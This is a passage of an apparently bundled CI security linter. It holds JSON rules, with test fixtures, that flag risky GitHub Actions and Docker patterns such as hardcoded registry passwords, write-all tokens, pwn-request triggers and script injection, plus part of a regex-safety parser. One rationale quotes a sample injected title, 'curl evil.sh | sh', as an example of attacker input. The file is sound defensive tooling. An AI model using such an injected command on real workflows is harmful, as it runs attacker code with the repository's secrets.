it.","references":[{"framework":"cis-docker","id":"1.6.0:5.23"},{"framework":"cis-docker","id":"1.6.0:5.24"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--user` value that means root: the name or UID, with or without a group."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d --name app ghcr.io/example/app:1.4.2\\n          docker exec --privileged app mount -t tmpfs none /mnt\\n          docker exec -u root app apt-get install -y curl\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":64},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker exec app ./manage.py migrate\\n          docker exec -u 10001 app id\\n","expect":[]}],"source":"policies/workflows/command-docker-exec-privileged.yaml"},{"id":"command-docker-login-password","pack":"workflows","title":"docker login with a password written in the script","severity":"high","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"login"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"password":{"items":{"pattern":{"$param":"expression"}}}}}}}}},"message":"`docker login` is given a password written in the script, so it is in the repository for anyone to read, and `-p` also puts it in the process list. Pipe a secret in instead: `echo \\"${{ secrets.REGISTRY_TOKEN }}\\" | docker login -u bot --password-stdin ghcr.io`, or use docker/login-action.","rationale":"A password written in a workflow\'s `run:` script is committed to the repository\'s history, visible to everyone with read access and copied into every fork, and it cannot be masked in logs because GitHub does not know it is a secret. Docker itself warns that `--password` on the command line is insecure: the value shows up in `ps` and shell history. The OWASP cheat sheet (rule 12) asks that secrets be kept out of files and command lines.","remediation":"```yaml\\n- name: Log in to the registry\\n  run: echo \\"$REGISTRY_TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n  env:\\n    REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n```\\n\\nor `uses: docker/login-action@<sha>` with `password: ${{ secrets.REGISTRY_TOKEN }}`. Rotate the\\npassword that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/login/#password-stdin"}],"params":{"expression":"\\\\$"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A password value that comes from somewhere else (an expression or a shell variable) rather than being written in the file."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker login -u ci-bot -p \'hunter2-hunter2\' registry.example.com\\n          docker push registry.example.com/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":75}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \\"$TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n        env:\\n          TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n      - run: docker login -u ci-bot --password \\"$TOKEN\\" registry.example.com\\n","expect":[]}],"source":"policies/workflows/command-docker-login-password.yaml"},{"id":"container-registry-password-literal","pack":"workflows","title":"Registry password written in a job or service container\'s credentials","severity":"high","subject":"container","when":{"required":["credentials"],"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"credentials":{"properties":{"password":{"pattern":{"$param":"expression"}}}}}},"message":"{{name}} writes its registry password into the workflow, where everyone who can read the repository (and every fork) can copy it. Store it as an encrypted secret and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.","rationale":"A password in a workflow file is committed to the repository\'s history, copied into forks and visible to anyone with read access; rotating it does not remove the old value from history. GitHub encrypts repository and organisation secrets, masks them in logs and withholds them from workflows triggered by forks. For GitHub Container Registry, the job\'s own `GITHUB_TOKEN` needs no stored password at all. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nThen rotate the password that was committed: it stays in the repository\'s history.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials"}],"params":{"expression":"\\\\$\\\\{\\\\{"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that comes from somewhere else: a `${{ secrets.X }}` (or any other) expression."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: registry.example.com/ci/node:22\\n      credentials:\\n        username: ci-bot\\n        password: hunter2-hunter2\\n    services:\\n      db:\\n        image: registry.example.com/ci/postgres:16\\n        credentials:\\n          username: ci-bot\\n          password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: npm test\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":34}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/container-registry-password-literal.yaml"},{"id":"workflow-container-literal-secret","pack":"workflows","title":"Secret written into a job or service container\'s env","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the workflow. For a throwaway test database that is harmless, but a real credential is now readable by everyone with access to the repository. Use `${{ secrets.\u2026 }}` for anything that is not a disposable test value.","rationale":"Service containers in CI usually get a made-up password for a database that lives for one job, which is why this rule is low severity. The same place is also where real credentials for licensed images, external services or shared test environments end up, and a value written in the workflow is committed, visible to every reader and fork, and not masked in logs. The OWASP cheat sheet (rule 12) asks that secrets never be written into configuration files.","remediation":"```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    env:\\n      POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}   # or a disposable value, suppressed\\n```\\n\\nA disposable value can be kept with an inline suppression that says so:\\n`# containment: ignore[workflow-container-literal-secret] throwaway CI database`.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: an expression or a shell variable."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      env:\\n        NPM_TOKEN: npm_abcdefghijklmnop\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_USER: app\\n          POSTGRES_PASSWORD: postgres\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":40},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}\\n          POSTGRES_HOST_AUTH_METHOD: trust\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-container-literal-secret.yaml"},{"id":"workflow-docker-daemon-tcp-without-tls","pack":"workflows","title":"Workflow step points Docker at, or exposes, a daemon on plain TCP","severity":"medium","subject":"workflow.step","schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}},"message":"This step sets `{{key}}` so that Docker is reached over plain TCP, where its API has no authentication: anything that can reach the port can start privileged containers on that daemon. Use the local socket (the default), or TLS on port 2376 with client certificates.","rationale":"The Docker API is root-equivalent, and on TCP without TLS anyone who can reach the port can use it. A `DOCKER_HOST=tcp://\u2026:2375` in a workflow usually points at a Docker-in-Docker service or a remote builder whose port is then open to every container and process on that network. The OWASP cheat sheet (rule 1) asks never to expose the daemon without TLS.","remediation":"Leave `DOCKER_HOST` unset to use the runner\'s socket, or use TLS:\\n\\n```yaml\\nenv:\\n  DOCKER_HOST: tcp://docker:2376\\n  DOCKER_TLS_VERIFY: \\"1\\"\\n  DOCKER_CERT_PATH: /certs/client\\n```","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `DOCKER_HOST` on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          tcp-port: 2375\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://localhost:2375\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":25},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          set-host: true\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://docker:2376\\n          DOCKER_TLS_VERIFY: \\"1\\"\\n","expect":[]}],"source":"policies/workflows/workflow-docker-daemon-tcp-without-tls.yaml"},{"id":"workflow-image-push-without-attestations","pack":"workflows","title":"Image pushed without SBOM and provenance attestations","severity":"low","subject":"workflow.step","when":{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}},"schema":{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}},"message":"This step pushes an image without {{key}} attestations, so consumers cannot verify how it was built or see what it contains when a vulnerability is announced. Add `sbom: true` and keep provenance on (`provenance: mode=max`).","rationale":"An SBOM attestation lists the packages in the image, which lets scanners and consumers answer \\"are we affected?\\" without pulling and unpacking it. A provenance attestation records the source repository, commit, build parameters and builder, which lets consumers check that the image was built from this repository by this workflow. BuildKit attaches both to the pushed image; docker/build-push-action adds provenance by default (`mode=max` for public repositories, `mode=min` for private ones) unless `provenance: false`, but an SBOM only with `sbom: true`. The OWASP cheat sheet\'s supply-chain rule (13) and Docker Scout rely on them.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    sbom: true\\n    provenance: mode=max\\n```","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/attestations/"},{"framework":"url","url":"https://docs.docker.com/build/metadata/attestations/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          provenance: false\\n","expect":[{"line":7,"column":9,"endLine":7,"endColumn":13},{"line":10,"column":11,"endLine":10,"endColumn":28}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          sbom: true\\n          provenance: mode=max\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: false\\n          load: true\\n          tags: app:test\\n","expect":[]}],"source":"policies/workflows/workflow-image-push-without-attestations.yaml"},{"id":"workflow-job-permissions-write-all","pack":"workflows","title":"Job grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow.job","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"Job {{name}} sets `permissions: write-all`, so every step in it, including third-party actions, holds a token that can push code, publish packages and change releases. List only the scopes this job needs, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step of the job. `write-all` turns any compromised action or injected script into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idpermissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions: write-all\\n    steps:\\n      - run: make release\\n","expect":[{"line":7,"column":5,"endLine":7,"endColumn":27}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-job-permissions-write-all.yaml"},{"id":"workflow-login-action-password-literal","pack":"workflows","title":"docker/login-action given a password written in the workflow","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}},"message":"This docker/login-action step writes the registry password into the workflow, where everyone who can read the repository can copy it. Store it as a secret and write `password: ${{ secrets.REGISTRY_TOKEN }}` (or `${{ secrets.GITHUB_TOKEN }}` for ghcr.io).","rationale":"docker/login-action masks the password only when it comes from a secret; a literal value is part of the committed file, visible to every reader and fork and kept in history after it is changed. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\n- uses: docker/login-action@<full commit sha> # v3\\n  with:\\n    registry: ghcr.io\\n    username: ${{ github.actor }}\\n    password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nRotate the password that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/push-multi-registries/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@v3\\n        with:\\n          registry: registry.example.com\\n          username: ci-bot\\n          password: hunter2-hunter2\\n","expect":[{"line":10,"column":11,"endLine":10,"endColumn":36}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772\\n        with:\\n          registry: ghcr.io\\n          username: ${{ github.actor }}\\n          password: ${{ secrets.GITHUB_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-login-action-password-literal.yaml"},{"id":"workflow-permissions-missing","pack":"workflows","title":"Workflow does not limit the GITHUB_TOKEN\'s permissions","severity":"low","subject":"workflow","when":{"not":{"properties":{"on":{"properties":{"events":{"const":["workflow_call"]}}}}}},"schema":{"required":["permissions"]},"message":"This workflow does not declare `permissions:`, so its jobs get the repository\'s default token permissions, which may include write access to code, packages and releases. Add `permissions: { contents: read }` at the top and grant more only to the jobs that need it.","rationale":"Every job receives a `GITHUB_TOKEN`. Without a `permissions:` block its scopes are the repository\'s or organisation\'s default, which for older repositories is read and write on almost everything. A compromised step (a malicious action, an injected script) can then push code, publish packages or alter releases. Declaring the minimum at the workflow level makes the token\'s power visible in review. If every job declares its own `permissions:`, suppress this finding with that reason.","remediation":"```yaml\\npermissions:\\n  contents: read\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write   # only this job pushes images\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[{"line":1,"column":1,"endLine":1,"endColumn":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]},{"file":".github/workflows/reusable.yml","content":"on: workflow_call\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-missing.yaml"},{"id":"workflow-permissions-write-all","pack":"workflows","title":"Workflow grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"`permissions: write-all` gives every job of this workflow a token that can push code, publish packages, change releases and more, so any compromised step can do all of that. List only the scopes the jobs need, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step, including third-party actions and scripts that process untrusted input. `write-all` turns any weakness in any of them into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\npermissions:\\n  contents: read\\n  packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions: write-all\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":23}]},{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-write-all.yaml"},{"id":"workflow-secret-in-build-args","pack":"workflows","title":"Secret passed to an image build as a build argument","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":{"$param":"secretExpression"}}}}}}},"message":"This build passes a secret through `build-args`, which are recorded in the image\'s history and provenance, so anyone who can pull the image can read it. Pass it with the action\'s `secrets:` input and read it in the Dockerfile with `RUN --mount=type=secret`.","rationale":"Build arguments are not secret: their values end up in the image configuration\'s history (when an ARG is used by a RUN), in build logs and caches, and, since docker/build-push-action adds provenance attestations by default, in the provenance attached to the pushed image, which Docker\'s documentation warns about. Docker\'s GitHub Actions documentation shows build secrets passed through the `secrets:` (or `secret-files:`) input instead, which BuildKit mounts for the one step that needs them and never writes to a layer.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    secrets: |\\n      npm_token=${{ secrets.NPM_TOKEN }}\\n```\\n\\n```dockerfile\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci --omit=dev\\n```","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/secrets/"}],"params":{"secretExpression":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"},"paramSchemas":{"secretExpression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A secret or token expression anywhere in the build arguments."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=1.4.2\\n            NPM_TOKEN=${{ secrets.NPM_TOKEN }}\\n","expect":[{"line":10,"column":11}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=${{ github.ref_name }}\\n          secrets: |\\n            npm_token=${{ secrets.NPM_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-secret-in-build-args.yaml"},{"id":"workflow-untrusted-code-with-privileged-trigger","pack":"workflows","title":"Privileged trigger builds or runs a pull request\'s code","severity":"critical","subject":"workflow.step","when":{"required":["prHeadCheckedOut","triggers"],"properties":{"prHeadCheckedOut":{"const":true},"triggers":{"contains":{"enum":["pull_request_target","workflow_run"]}}}},"schema":{"properties":{"builds":false,"composeFiles":false}},"message":"This step builds or runs the pull request\'s code (`docker build`, build-push-action, `docker compose`) in a workflow started by `pull_request_target` or `workflow_run`, which has the base repository\'s secrets and a write token: any contributor can run code with them. Build untrusted code in a `pull_request` workflow, and pass only its results to the privileged one.","rationale":"`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a `GITHUB_TOKEN` that can write, precisely because they are not supposed to run the pull request\'s code. Checking out the head of the pull request and then building a Dockerfile (whose RUN steps execute) or bringing up a Compose file hands that access to whoever opened the pull request (\\"pwn request\\"). The job\'s earlier checkout of the head is what makes this step dangerous; the finding is on the step that executes the code.","remediation":"Split the work: build and test the contributor\'s code with `on: pull_request` (no secrets, read\\ntoken), upload what is needed as an artifact, and let a `workflow_run` workflow that never checks\\nout or executes the pull request\'s code publish it:\\n\\n```yaml\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@<sha>\\n      - run: docker build -t app:pr .\\n```","references":[{"framework":"url","url":"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  preview:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t preview:${{ github.event.number }} .\\n      - run: docker compose up -d\\n","expect":[{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t tools .\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t app:pr .\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-code-with-privileged-trigger.yaml"},{"id":"workflow-untrusted-input-in-run","pack":"workflows","title":"Attacker-controlled value expanded into a run script","severity":"high","subject":"workflow.step","schema":{"if":{"required":["untrustedExpressions"]},"then":{"properties":{"run":false}}},"message":"This `run:` script expands attacker-controlled values ({{subject.untrustedExpressions}}) straight into shell code, so whoever writes that title, branch name or comment can run commands here, with the job\'s token and secrets. Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `\\"$TITLE\\"` in the script.","rationale":"GitHub replaces `${{ }}` expressions before the shell starts, so the value becomes part of the script\'s text. Pull request titles and bodies, issue and comment bodies, commit messages, author names and branch names are chosen by whoever opens the pull request or issue; a title such as `\\"; curl evil.sh | sh; \\"` is executed. Through an environment variable the value stays data. GitHub\'s security hardening guide describes this script injection.","remediation":"```yaml\\n- name: Greet\\n  env:\\n    TITLE: ${{ github.event.pull_request.title }}\\n  run: echo \\"Building: $TITLE\\"\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo \\"New issue: ${{ github.event.issue.title }}\\"\\n          docker run --rm ghcr.io/example/triage:1.0.0 \\"${{ github.event.issue.body }}\\"\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          TITLE: ${{ github.event.issue.title }}\\n        run: echo \\"New issue $TITLE (#${{ github.event.issue.number }})\\"\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-input-in-run.yaml"}],"source":"policies/workflows"}]');
   return { packs, validators };
 }
 
@@ -55573,6 +55684,285 @@ function runtimeCompileCount() {
   return compiledAtRunTime;
 }
 
+// src/policy/regex-safety.ts
+function unsafePatternReason(source) {
+  let tree;
+  try {
+    tree = new Parser(source).parse();
+  } catch {
+    return void 0;
+  }
+  return analyze(tree).problem;
+}
+var range = (from, to) => Array.from({ length: to - from + 1 }, (_, i) => String.fromCharCode(from + i));
+var DIGITS = new Set(range(48, 57));
+var WORD = /* @__PURE__ */ new Set([...range(48, 57), ...range(65, 90), ...range(97, 122), "_"]);
+var SPACE = /* @__PURE__ */ new Set([" ", "	", "\n", "\r", "\f", "\v"]);
+var MAX_CLASS = 512;
+var Parser = class {
+  constructor(source) {
+    this.source = source;
+  }
+  source;
+  at = 0;
+  parse() {
+    const group2 = this.alternation();
+    if (this.at < this.source.length) throw new Error("unbalanced )");
+    return group2;
+  }
+  alternation() {
+    const branches = [this.sequence()];
+    while (this.source[this.at] === "|") {
+      this.at++;
+      branches.push(this.sequence());
+    }
+    return { type: "group", branches };
+  }
+  sequence() {
+    const items = [];
+    while (this.at < this.source.length && this.source[this.at] !== "|" && this.source[this.at] !== ")") {
+      const node = this.atom();
+      const [min, max] = this.quantifier();
+      items.push({ node, min, max });
+    }
+    return items;
+  }
+  atom() {
+    const char = this.source[this.at++];
+    switch (char) {
+      case "^":
+      case "$":
+        return { type: "assertion" };
+      case ".":
+        return { type: "atom", first: "any" };
+      case "[":
+        return { type: "atom", first: this.characterClass() };
+      case "(": {
+        let lookaround = false;
+        if (this.source[this.at] === "?") {
+          const rest = this.source.slice(this.at, this.at + 4);
+          if (rest.startsWith("?:")) this.at += 2;
+          else if (/^\?<?[=!]/.test(rest)) {
+            lookaround = true;
+            this.at += rest[1] === "<" ? 3 : 2;
+          } else if (rest.startsWith("?<")) this.at = this.source.indexOf(">", this.at) + 1;
+        }
+        const group2 = this.alternation();
+        if (this.source[this.at++] !== ")") throw new Error("unclosed (");
+        return lookaround ? { type: "assertion" } : group2;
+      }
+      case "\\":
+        return this.escape();
+      default:
+        return { type: "atom", first: /* @__PURE__ */ new Set([char]) };
+    }
+  }
+  escape() {
+    const char = this.source[this.at++] ?? "";
+    if (char === "b" || char === "B") return { type: "assertion" };
+    const known = classEscape(char);
+    if (known) return { type: "atom", first: known };
+    if (char === "u" || char === "x" || char === "p" || char === "P" || char === "k" || /\d/.test(char)) {
+      if (this.source[this.at] === "{") this.at = this.source.indexOf("}", this.at) + 1;
+      else if (this.source[this.at] === "<") this.at = this.source.indexOf(">", this.at) + 1;
+      else while (/[0-9a-fA-F]/.test(this.source[this.at] ?? "")) this.at++;
+      return { type: "atom", first: "any" };
+    }
+    return { type: "atom", first: /* @__PURE__ */ new Set([controlEscape(char)]) };
+  }
+  characterClass() {
+    const negated = this.source[this.at] === "^";
+    if (negated) this.at++;
+    const chars = /* @__PURE__ */ new Set();
+    let any = negated;
+    let first = true;
+    while (this.at < this.source.length && (this.source[this.at] !== "]" || first)) {
+      first = false;
+      const char = this.source[this.at++];
+      if (char === "\\") {
+        const escaped = this.source[this.at++] ?? "";
+        const known = classEscape(escaped);
+        if (known === "any") any = true;
+        else if (known) for (const c of known) chars.add(c);
+        else if (/[uxpPdDwWsS0-9]/.test(escaped)) any = true;
+        else chars.add(controlEscape(escaped));
+        continue;
+      }
+      if (this.source[this.at] === "-" && this.source[this.at + 1] !== "]" && this.at + 1 < this.source.length) {
+        let to = this.source[this.at + 1];
+        this.at += 2;
+        if (to === "\\") to = controlEscape(this.source[this.at++] ?? "");
+        const [a, b] = [char.charCodeAt(0), to.charCodeAt(0)];
+        if (b - a > MAX_CLASS) any = true;
+        else for (const c of range(a, b)) chars.add(c);
